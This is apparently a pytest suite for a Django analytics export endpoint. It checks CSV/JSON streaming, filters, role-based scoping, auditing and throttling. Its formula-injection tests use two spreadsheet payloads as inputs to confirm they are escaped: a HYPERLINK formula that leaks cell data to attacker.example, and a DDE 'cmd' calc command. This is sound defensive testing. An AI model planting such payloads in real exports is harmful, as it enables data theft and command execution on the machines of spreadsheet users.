"""GET /api/v1/analytics/export/: streamed CSV and JSON, scoped like the lists."""

import csv
import datetime as dt
import io
import json

import pytest
from rest_framework.test import APIClient
from rest_framework.throttling import ScopedRateThrottle

from apps.accounts.models import Role
from apps.accounts.tests.factories import TeamFactory, UserFactory
from apps.analytics.limits import MAX_RANGE_DAYS
from apps.analytics.models import (
    EngagementType,
    MetricType,
    PerformanceMetric,
)
from apps.analytics.tests.conftest import local
from apps.analytics.tests.factories import (
    DataQualityMetricFactory,
    PerformanceMetricFactory,
    SystemHealthMetricFactory,
    UserEngagementMetricFactory,
)
from apps.core.models import AuditAction, AuditLog

URL = "/api/v1/analytics/export/"

pytestmark = pytest.mark.django_db


def export(user, **params):
    """Request an export as `user` (None: anonymous)."""
    client = APIClient()
    if user is not None:
        client.force_authenticate(user)
    return client.get(URL, params)


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


def json_rows(response) -> list[dict]:
    return json.loads(body(response))


@pytest.fixture
def admin():
    return UserFactory(username="root", role=Role.ADMIN)


@pytest.fixture
def org():
    """Team A (manager boss, members ann and amy), team B (bob), an admin."""
    team_a, team_b = TeamFactory(name="A"), TeamFactory(name="B")
    return {
        "boss": UserFactory(username="boss", role=Role.MANAGER, team=team_a),
        "ann": UserFactory(username="ann", team=team_a),
        "amy": UserFactory(username="amy", team=team_a),
        "bob": UserFactory(username="bob", team=team_b),
        "root": UserFactory(username="root", role=Role.ADMIN),
    }


# --- the body ---------------------------------------------------------------------


def test_csv_round_trips_values_times_and_metadata(admin):
    start = local("2026-03-29", 0) + dt.timedelta(microseconds=123456)
    mine = PerformanceMetricFactory(
        metric_type=MetricType.CRM_SYNC_SUCCESS,
        value=0.1 + 0.2,
        period_start=start,
        period_end=start + dt.timedelta(hours=23),
        user=admin,
        metadata={"numerator": 3, "note": 'ünïcode, "quoted"', "nested": [1, None]},
    )
    org_wide = PerformanceMetricFactory(period_start=local("2026-03-30"), value=2.0)

    response = export(admin, format="csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert [int(row["id"]) for row in rows] == [mine.pk, org_wide.pk]
    first = rows[0]
    assert first["metric_type"] == "crm_sync_success"
    assert float(first["value"]) == 0.1 + 0.2
    assert dt.datetime.fromisoformat(first["period_start"]) == start
    assert dt.datetime.fromisoformat(first["period_end"]) == start + dt.timedelta(
        hours=23
    )
    assert first["period_start"] == "2026-03-29T00:00:00.123456+01:00"
    assert first["user_id"] == str(admin.pk)
    assert json.loads(first["metadata"]) == mine.metadata
    assert dt.datetime.fromisoformat(first["created_at"]) == mine.created_at
    assert (rows[1]["user_id"], rows[1]["metadata"]) == ("", "{}")


def test_csv_writes_none_as_empty_and_booleans_in_lowercase(admin):
    reading = SystemHealthMetricFactory(
        value=None, warning_threshold=None, higher_is_worse=False
    )

    (row,) = csv_rows(export(admin, format="csv", dataset="system_health"))

    assert int(row["id"]) == reading.pk
    assert (row["value"], row["warning_threshold"]) == ("", "")
    assert (row["critical_threshold"], row["higher_is_worse"]) == ("500.0", "false")


def test_json_parses_and_equals_the_rows(admin):
    when = local("2026-03-10", 9, 30) + dt.timedelta(microseconds=7)
    event = UserEngagementMetricFactory(
        user=admin,
        engagement_type=EngagementType.MEETING_VIEW,
        session_id="s-1",
        duration_seconds=12.5,
        entity_type="meeting",
        entity_id="42",
        metadata={"source": "web", "tags": ["a", "b"]},
        timestamp=when,
        event_id="7d444840-9dc0-11d1-b245-5ffdce74fad2",
    )
    event.refresh_from_db()

    response = export(admin, dataset="engagement", format="json")

    assert response["Content-Type"] == "application/json"
    (row,) = json_rows(response)
    created_at = row.pop("created_at")
    assert row == {
        "id": event.pk,
        "user_id": admin.pk,
        "engagement_type": "meeting_view",
        "session_id": "s-1",
        "duration_seconds": 12.5,
        "entity_type": "meeting",
        "entity_id": "42",
        "metadata": {"source": "web", "tags": ["a", "b"]},
        "timestamp": "2026-03-10T09:30:00.000007+01:00",
        "event_id": "7d444840-9dc0-11d1-b245-5ffdce74fad2",
    }
    assert dt.datetime.fromisoformat(created_at) == event.created_at


def test_rows_come_oldest_first_by_the_dataset_date(admin):
    late = PerformanceMetricFactory(period_start=local("2026-03-12"))
    early = PerformanceMetricFactory(period_start=local("2026-03-02"))

    rows = json_rows(export(admin))

    assert [row["id"] for row in rows] == [early.pk, late.pk]


@pytest.mark.parametrize(
    ("export_format", "empty"), [("csv", None), ("json", [])], ids=["csv", "json"]
)
def test_an_empty_export_is_a_header_or_an_empty_array(admin, export_format, empty):
    response = export(admin, format=export_format, dataset="data_quality")

    assert response.status_code == 200
    if export_format == "csv":
        assert body(response).splitlines() == [
            "id,quality_type,entity_type,entity_id,field_name,score,confidence,"
            "sample_size,user_id,period_start,period_end,metadata,measured_at"
        ]
    else:
        assert json.loads(body(response)) == empty


def test_the_response_is_streamed_as_a_named_attachment(admin):
    response = export(
        admin,
        format="csv",
        dataset="engagement",
        start_date="2026-03-01",
        end_date="2026-03-29",
    )

    assert response.streaming is True
    assert response["Content-Disposition"] == (
        'attachment; filename="engagement-2026-03-01-2026-03-29.csv"'
    )
    open_ended = export(admin, start_date="2026-03-01")
    assert open_ended.streaming is True
    assert open_ended["Content-Disposition"] == (
        'attachment; filename="performance-2026-03-01-all.json"'
    )


def test_accept_headers_neither_block_the_export_nor_its_json_errors(admin):
    client = APIClient()
    client.force_authenticate(admin)

    ok = client.get(URL, {"format": "csv"}, HTTP_ACCEPT="text/csv")
    bad = client.get(URL, {"format": "xml"}, HTTP_ACCEPT="text/csv")

    assert (ok.status_code, ok["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert (bad.status_code, bad["Content-Type"]) == (400, "application/json")
    assert list(bad.json()["error"]["fields"]) == ["format"]


# --- filters ----------------------------------------------------------------------


def test_dates_are_local_days_with_the_end_day_included(admin):
    inside = [
        UserEngagementMetricFactory(user=admin, timestamp=local("2026-03-01", 0, 0)),
        # The clocks go forward on 2026-03-29 in Amsterdam: a 23-hour day.
        UserEngagementMetricFactory(user=admin, timestamp=local("2026-03-29", 23, 59)),
    ]
    UserEngagementMetricFactory(user=admin, timestamp=local("2026-02-28", 23, 59))
    UserEngagementMetricFactory(user=admin, timestamp=local("2026-03-30", 0, 0))

    rows = json_rows(
        export(
            admin,
            dataset="engagement",
            start_date="2026-03-01",
            end_date="2026-03-29",
        )
    )

    assert [row["id"] for row in rows] == [event.pk for event in inside]


def test_metric_type_keeps_only_that_metric(admin):
    wanted = PerformanceMetricFactory(metric_type=MetricType.CRM_SYNC_SUCCESS)
    PerformanceMetricFactory(metric_type=MetricType.DEBRIEFING_COMPLETION)

    rows = json_rows(export(admin, metric_type="crm_sync_success"))

    assert [row["id"] for row in rows] == [wanted.pk]


def test_engagement_type_and_component_filter_their_datasets(admin):
    login = UserEngagementMetricFactory(user=admin, engagement_type="login")
    UserEngagementMetricFactory(user=admin, engagement_type="search")
    database = SystemHealthMetricFactory(component="database")
    SystemHealthMetricFactory(component="redis")

    logins = json_rows(export(admin, dataset="engagement", engagement_type="login"))
    readings = json_rows(export(admin, dataset="system_health", component="database"))

    assert [row["id"] for row in logins] == [login.pk]
    assert [row["id"] for row in readings] == [database.pk]


TOO_LONG_END = (dt.date(2026, 1, 1) + dt.timedelta(days=MAX_RANGE_DAYS)).isoformat()


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xml"}, "format"),
        ({"format": "CSV"}, "format"),
        ({"dataset": "users"}, "dataset"),
        ({"metric_type": "revenue"}, "metric_type"),
        ({"dataset": "engagement", "engagement_type": "nap"}, "engagement_type"),
        ({"dataset": "engagement", "metric_type": "user_engagement"}, "metric_type"),
        ({"component": "database"}, "component"),
        ({"start_date": "yesterday"}, "start_date"),
        ({"start_date": "2026-02-30"}, "start_date"),
        ({"end_date": "2026-13-01"}, "end_date"),
        ({"start_date": "2026-03-02", "end_date": "2026-03-01"}, "end_date"),
        ({"start_date": "2026-01-01", "end_date": TOO_LONG_END}, "end_date"),
    ],
    ids=lambda value: "-".join(value.values()) if isinstance(value, dict) else value,
)
def test_bad_input_answers_400_naming_the_field(admin, params, field):
    response = export(admin, **params)

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "invalid"
    assert list(error["fields"]) == [field]


def test_every_bad_field_is_named_at_once(admin):
    response = export(admin, format="xml", metric_type="revenue", end_date="x")

    assert response.status_code == 400
    assert set(response.json()["error"]["fields"]) == {
        "format",
        "metric_type",
        "end_date",
    }


def test_the_longest_range_allowed_is_accepted(admin):
    end = dt.date(2026, 1, 1) + dt.timedelta(days=MAX_RANGE_DAYS - 1)

    response = export(admin, start_date="2026-01-01", end_date=end.isoformat())

    assert response.status_code == 200


# --- access -----------------------------------------------------------------------


def test_anonymous_callers_get_401_in_the_error_shape():
    response = export(None, format="csv")

    assert response.status_code == 401
    assert response.json()["error"]["code"] == "not_authenticated"


@pytest.mark.parametrize(
    ("viewer", "visible"),
    [
        ("ann", {"ann"}),
        ("boss", {"boss", "ann", "amy", "organisation"}),
        ("root", {"boss", "ann", "amy", "bob", "root", "organisation"}),
    ],
    ids=["member", "manager", "admin"],
)
def test_performance_export_is_scoped_like_the_list(org, viewer, visible):
    owners = {
        PerformanceMetricFactory(user=user).pk: name for name, user in org.items()
    }
    owners[PerformanceMetricFactory(user=None).pk] = "organisation"

    rows = json_rows(export(org[viewer], dataset="performance"))

    assert {owners[row["id"]] for row in rows} == visible
    assert PerformanceMetric.objects.count() == len(org) + 1


@pytest.mark.parametrize(
    ("viewer", "visible"),
    [
        ("ann", {"ann"}),
        ("boss", {"boss", "ann", "amy"}),
        ("root", {"boss", "ann", "amy", "bob", "root"}),
    ],
    ids=["member", "manager", "admin"],
)
def test_engagement_export_is_scoped_like_the_list(org, viewer, visible):
    owners = {
        UserEngagementMetricFactory(user=user).pk: name for name, user in org.items()
    }

    rows = csv_rows(export(org[viewer], dataset="engagement", format="csv"))

    assert {owners[int(row["id"])] for row in rows} == visible


@pytest.mark.parametrize(
    ("viewer", "visible"),
    [("ann", {"ann"}), ("boss", {"ann", "organisation"})],
    ids=["member", "manager"],
)
def test_data_quality_organisation_rows_are_for_managers(org, viewer, visible):
    owners = {
        DataQualityMetricFactory(user=org["ann"]).pk: "ann",
        DataQualityMetricFactory(user=org["bob"]).pk: "bob",
        DataQualityMetricFactory(user=None).pk: "organisation",
    }

    rows = json_rows(export(org[viewer], dataset="data_quality"))

    assert {owners[row["id"]] for row in rows} == visible


@pytest.mark.parametrize(
    ("viewer", "status"),
    [("ann", 403), ("boss", 403), ("root", 200)],
    ids=["member", "manager", "admin"],
)
def test_raw_system_health_is_for_admins_only(org, viewer, status):
    SystemHealthMetricFactory()

    response = export(org[viewer], dataset="system_health", format="csv")

    assert response.status_code == status
    if status == 403:
        assert response.json()["error"]["code"] == "permission_denied"
    else:
        assert len(csv_rows(response)) == 1


def test_every_export_is_audited_with_its_parameters(admin):
    export(admin, format="csv", dataset="engagement", start_date="2026-03-01")

    (entry,) = AuditLog.objects.all()
    assert (entry.user, entry.action, entry.status_code) == (
        admin,
        AuditAction.EXPORT,
        200,
    )
    assert entry.parameters == {
        "format": "csv",
        "dataset": "engagement",
        "start_date": "2026-03-01",
    }


def test_exports_are_throttled_per_user(admin, monkeypatch):
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"export": "2/min"})

    responses = [export(admin) for _ in range(3)]

    assert [response.status_code for response in responses] == [200, 200, 429]
    assert responses[-1].json()["error"]["code"] == "throttled"


# --- formula injection ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'


def test_csv_text_cells_never_start_a_formula_and_json_keeps_raw_values(admin):
    event = UserEngagementMetricFactory(
        user=admin,
        session_id=HYPERLINK,
        entity_type="@SUM(1+1)",
        entity_id="-2+3",
        duration_seconds=-0.0,
        metadata={"note": "=1+1"},
    )

    (row,) = csv_rows(export(admin, format="csv", dataset="engagement"))
    assert row["session_id"] == "'" + HYPERLINK
    assert (row["entity_type"], row["entity_id"]) == ("'@SUM(1+1)", "'-2+3")
    # Metadata is JSON text: it starts with "{", and stays parseable JSON.
    assert json.loads(row["metadata"]) == {"note": "=1+1"}

    (raw,) = json_rows(export(admin, format="json", dataset="engagement"))
    assert (raw["session_id"], raw["entity_type"], raw["entity_id"]) == (
        HYPERLINK,
        "@SUM(1+1)",
        "-2+3",
    )
    assert event.pk == raw["id"] == int(row["id"])


def test_csv_numbers_stay_numbers_even_when_negative(admin):
    SystemHealthMetricFactory(
        component="+cmd|' /C calc'!A0",
        value=-3.5,
        warning_threshold=-1.0,
        critical_threshold=-2.0,
    )

    (row,) = csv_rows(export(admin, format="csv", dataset="system_health"))

    assert row["component"] == "'+cmd|' /C calc'!A0"
    assert (row["value"], row["warning_threshold"], row["critical_threshold"]) == (
        "-3.5",
        "-1.0",
        "-2.0",
    )
